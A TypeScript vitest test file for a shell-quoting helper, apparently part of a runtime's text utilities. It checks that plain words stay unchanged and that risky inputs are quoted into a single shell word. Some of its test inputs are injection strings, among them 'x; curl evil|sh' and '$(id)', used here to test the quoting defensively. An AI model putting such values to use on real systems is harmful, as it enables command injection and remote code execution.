import { spawnSync } from "node:child_process";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { printableLine } from "../../../runtime/text/printable.js";
import { shellWord } from "../../../runtime/text/shell-word.js";

/** The words that a shell makes of a line. */
function wordsOf(line: string): string[] {
  const { status, stdout } = spawnSync("sh", ["-c", `printf '%s\\0' ${line}`], {
    encoding: "utf8",
  });
  expect(status).toBe(0);
  return stdout.split("\0").slice(0, -1);
}

describe("shellWord", () => {
  it.each(["run_1", "8f14e45f-ceea", "http://127.0.0.1:8080/api/v4", "a@b.example"])(
    "leaves the plain word %s as it is",
    (word) => {
      expect(shellWord(word)).toBe(word);
    },
  );

  it.each([
    ["x; curl evil|sh", "'x; curl evil|sh'"],
    ["it's", String.raw`'it'\''s'`],
    ["", "''"],
    ["~root", "'~root'"],
    ["=ls", "'=ls'"],
    ["$(id)", "'$(id)'"],
    ["a\tb\nc", String.raw`'a\u0009b\u000ac'`],
    ["\u001b[2J", String.raw`'\u001b[2J'`],
  ])("quotes %j as %s", (word, quoted) => {
    expect(shellWord(word)).toBe(quoted);
  });

  it("is one word to a shell, whatever it holds", () => {
    const texts = fc.sample(fc.string({ unit: "binary" }), 200);
    const shown = texts.map((text) => printableLine(text).replaceAll("\t", String.raw`\u0009`));
    expect(wordsOf(texts.map(shellWord).join(" "))).toEqual(shown);
  });
});
